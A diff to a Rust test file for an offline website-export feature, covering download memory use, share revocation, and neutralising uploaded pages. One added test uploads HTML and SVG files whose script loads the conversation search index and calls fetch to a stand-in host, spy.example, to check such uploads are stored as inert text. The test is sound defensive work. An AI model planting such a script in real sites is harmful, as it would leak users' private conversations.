@@ -1,6 +1,10 @@
 //! A portal as a website that opens without a server.
 
-use std::collections::{BTreeMap, BTreeSet};
+use std::{
+    collections::{BTreeMap, BTreeSet},
+    thread,
+    time::Duration,
+};
 
 use crate::{
     archives::unpacked,
@@ -20,6 +24,8 @@ on_both! {
     t18_every_copy_is_recorded,
     what_is_typed_is_text_on_every_page,
     a_copy_on_its_way_waits_for_its_reader,
+    p12_a_copy_on_its_way_ends_with_the_grant,
+    t11_what_a_stranger_wrote_runs_beside_nothing,
 }
 
 type Files = BTreeMap<String, Vec<u8>>;
@@ -290,7 +296,8 @@ fn memory(world: &World) -> usize {
     line.trim().trim_end_matches(" kB").parse().unwrap()
 }
 
-fn a_copy_on_its_way_waits_for_its_reader(world: World) {
+/// Three large files.
+fn films(world: &World) -> Page {
     let ada = world.ada();
     let portal = new_portal(&ada, "Films");
     let address = upload_form(&portal, []).path().to_owned();
@@ -298,14 +305,52 @@ fn a_copy_on_its_way_waits_for_its_reader(world: World) {
         let file = Upload::new(name, "application/octet-stream", vec![7; LARGE]);
         ada.upload(&address, &[("path", name)], vec![("file", file)]);
     }
-    wait_for_the_queue(&world);
-    let mut download = Line::open(&ada);
-    let asked = format!("GET {}/offline/download", portal.path());
-    download.send(Line::head(&ada, &asked, "Connection: close\r\n")).unwrap();
+    wait_for_the_queue(world);
+    portal
+}
+
+/// A download of which the head has come.
+fn begun(person: &Person, portal: &str) -> Line {
+    let mut download = Line::open(person);
+    let asked = format!("GET {portal}/offline/download");
+    download.send(Line::head(person, &asked, "Connection: close\r\n")).unwrap();
     download.hear_head().unwrap();
+    download
+}
+
+fn a_copy_on_its_way_waits_for_its_reader(world: World) {
+    let portal = films(&world);
+    let ada = world.ada();
     let before = memory(&world);
-    let came = download.hear_all().unwrap().len();
-    assert!(came > 3 * LARGE, "{came} bytes came");
+    let mut download = begun(&ada, portal.path());
+    // Whoever does not wait holds all of it by now.
+    thread::sleep(Duration::from_secs(2));
     let grown = memory(&world).saturating_sub(before);
     assert!(grown < LARGE / 1024, "{grown} KiB more");
+    let came = download.hear_all().unwrap().len();
+    assert!(came > 3 * LARGE, "{came} bytes came");
+}
+
+fn p12_a_copy_on_its_way_ends_with_the_grant(world: World) {
+    let portal = films(&world);
+    share(&portal, "carol@acme.test");
+    let mut download = begun(&world.carol(), &of_clients(&portal));
+    world.ada().visit(portal.path()).row("carol@acme.test").press("Revoke").assert_ok();
+    // Broken off within an answer, a line may end in an error as well.
+    let came = download.hear_all().unwrap_or_default().len();
+    assert!(came < 2 * LARGE, "{came} bytes came");
+}
+
+/// Any page in the folder may load the scripts that hold the words of all conversations.
+fn t11_what_a_stranger_wrote_runs_beside_nothing(world: World) {
+    let portal = lighthouse(&world);
+    for name in ["Spy.html", "spy.SVG", "spy.xhtml"] {
+        let script = "<script src=\"../search/1.js\"></script><script>fetch('https://spy.example')</script>";
+        upload_form(&world.ada().visit(portal.path()), [Upload::text(name, script)]).submit();
+    }
+    let files = copy(&world.ada(), portal.path());
+    assert!(files.contains_key("files/Spy.html.txt"), "{:?}", files.keys());
+    let theirs = files.keys().filter(|path| path.starts_with("files/"));
+    let run: Vec<_> = theirs.filter(|path| !path.ends_with(".txt")).collect();
+    assert!(run.is_empty(), "{run:?}");
 }
